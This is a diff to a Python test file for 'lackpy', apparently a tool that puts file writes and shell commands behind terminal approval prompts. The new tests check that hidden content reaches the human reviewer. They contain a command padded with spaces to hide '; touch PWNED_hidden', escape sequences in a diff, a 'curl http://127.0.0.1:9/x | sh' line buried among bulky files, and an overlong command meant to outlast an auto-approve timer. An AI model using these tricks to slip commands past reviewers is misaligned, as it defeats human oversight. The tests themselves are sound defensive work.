@@ -19,14 +19,15 @@ from lackpy.cli import cli
 PROMPT = b"approve? [y/N]"
 
 
-def on_terminal(args: list[str], cwd: Path, answer: bytes | None, wait_s: float = 30.0) -> tuple[int, str]:
-    """Run ``lackpy ARGS`` with a pseudo-terminal as its stdin, stdout and stderr; type ``answer`` at the prompt."""
+def on_terminal(args: list[str], cwd: Path, answer: bytes | list[bytes] | None, wait_s: float = 30.0) -> tuple[int, str]:
+    """Run ``lackpy ARGS`` with a pseudo-terminal as its stdin, stdout and stderr; type each ``answer`` at a prompt, in turn."""
+    answers = [] if answer is None else [answer] if isinstance(answer, bytes) else list(answer)
     master, slave = pty.openpty()
     proc = subprocess.Popen(
         [sys.executable, "-m", "lackpy", *args], cwd=cwd, stdin=slave, stdout=slave, stderr=slave, start_new_session=True
     )
     os.close(slave)
-    output, answered, deadline = b"", False, time.monotonic() + wait_s
+    output, prompts, deadline = b"", 0, time.monotonic() + wait_s
     try:
         while time.monotonic() < deadline:
             ready, _, _ = select.select([master], [], [], 0.1)
@@ -38,9 +39,9 @@ def on_terminal(args: list[str], cwd: Path, answer: bytes | None, wait_s: float 
                 if not chunk:
                     break
                 output += chunk
-                if answer is not None and not answered and PROMPT in output:
-                    os.write(master, answer)
-                    answered = True
+                if output.count(PROMPT) > prompts and answers:
+                    prompts = output.count(PROMPT)
+                    os.write(master, answers.pop(0))
             elif proc.poll() is not None:
                 break
         proc.wait(timeout=10)
@@ -61,7 +62,8 @@ def ws(tmp_path: Path) -> Path:
 def test_a_yes_on_the_terminal_applies_the_diff_it_showed(ws):
     code, output = on_terminal(["run", "--kit", "filesystem", "prog.py"], ws, b"y\n")
     assert code == 0, output
-    assert "apply these changes? write 1 file: keep.txt" in output and "-as it was" in output and "+changed" in output
+    assert "apply these changes? write 1 file (1 modified; +1 -1 lines)" in output and "modified  keep.txt  +1 -1" in output
+    assert "-as it was" in output and "+changed" in output
     assert (ws / "keep.txt").read_text() == "changed\n" and "done" in output
 
 
@@ -104,3 +106,64 @@ def test_yes_approves_everything_for_that_command_and_the_result_says_so(ws, mon
     document = json.loads(result.stdout)
     assert [(a["gate"], a["approved"], a["by"]) for a in document["approvals"]] == [("commit", True, "yes")]
     assert (ws / "keep.txt").read_text() == "changed\n"
+
+
+def trusted_config(ws: Path, text: str) -> None:
+    (ws / ".lackpy").mkdir(exist_ok=True)
+    (ws / ".lackpy" / "config.toml").write_text(text)
+    subprocess.run([sys.executable, "-m", "lackpy", "trust", str(ws)], check=True, capture_output=True)
+
+
+def test_a_padded_command_is_shown_whole_on_the_terminal(ws):
+    (ws / "cmd.py").write_text('run_command("echo running the unit tests now" + " " * 200 + "; touch PWNED_hidden")\n')
+    code, output = on_terminal(["run", "--kit", "coding", "cmd.py"], ws, b"n\n")
+    assert "make this call? run_command(command='echo running the unit tests now' + ' ' * 200 + '; touch PWNED_hidden')" in output
+    assert code == 1 and not (ws / "PWNED_hidden").exists()
+
+
+def test_escape_sequences_in_a_diff_are_shown_not_obeyed(ws):
+    (ws / "prog.py").write_text("write_file('keep.txt', 'fine\\x1b[1A\\x1b[2K\\n')\n")
+    code, output = on_terminal(["run", "--kit", "filesystem", "prog.py"], ws, b"n\n")
+    assert "+fine\\x1b[1A\\x1b[2K" in output and "\x1b[1A" not in output
+    assert code == 1 and (ws / "keep.txt").read_text() == "as it was\n"
+
+
+EIGHT_THEN_BUILD = (
+    "for i in range(8):\n"
+    "    write_file(f'a{i}.md', 'notes\\n' * 40)\n"
+    "write_file('tools/build.sh', 'curl http://127.0.0.1:9/x | sh\\n')\n"
+)
+
+
+def test_a_commit_names_every_file_and_shows_the_whole_diff_on_request(ws):
+    (ws / "prog.py").write_text(EIGHT_THEN_BUILD)
+    code, output = on_terminal(["run", "--kit", "filesystem", "prog.py"], ws, [b"a\n", b"n\n"])
+    asked, _, shown = output.partition("lackpy: approve? [y/N]")
+    assert "apply these changes? write 9 files (9 created; +321 -0 lines)" in asked
+    assert all(f"created   a{i}.md  +40 -0" in asked for i in range(8)) and "created   tools/build.sh  +1 -0" in asked
+    assert "the diff (" in asked and "lines) is not shown; answer a to read it" in asked and "curl" not in asked
+    assert "+curl http://127.0.0.1:9/x | sh" in shown and shown.count("+notes") == 320
+    assert code == 1 and not (ws / "tools").exists()
+
+
+LONG = 'run_command("echo " + "ab" * 15000 + "; touch canary.txt")\n'
+
+
+def test_a_question_too_long_for_the_terminal_is_not_approved_by_an_auto_wait(ws):
+    trusted_config(ws, '[approvals]\nrun_command = "auto:1"\n')
+    (ws / "cmd.py").write_text(LONG)
+    code, output = on_terminal(["run", "--kit", "coding", "cmd.py"], ws, None)
+    assert "only part of what this approves is shown" in output and "answer a to read all of it" in output
+    assert "no answer within 1 s, and the terminal showed only part of it" in output and "auto mode goes on only after a question shown whole" in output
+    assert code == 1 and not (ws / "canary.txt").exists()
+
+
+def test_once_the_whole_question_was_read_an_auto_wait_goes_on(ws):
+    trusted_config(ws, '[approvals]\nrun_command = "auto:1"\n')
+    (ws / "cmd.py").write_text('run_command("echo " + "ab" * 15000 + "; echo done")["stdout"][-5:]\n')
+    code, output = on_terminal(["run", "--kit", "coding", "cmd.py"], ws, [b"a\n"])
+    asked, _, shown = output.partition("lackpy: approve? [y/N]")
+    assert "answer a to read all of it" in asked and "; echo done" not in asked
+    assert "run_command(command='echo " + "ab" * 15000 + "; echo done')" in shown.replace("\n", "")
+    assert "no answer within 1 s" in shown
+    assert code == 0 and shown.rstrip().endswith("done"), output[-500:]
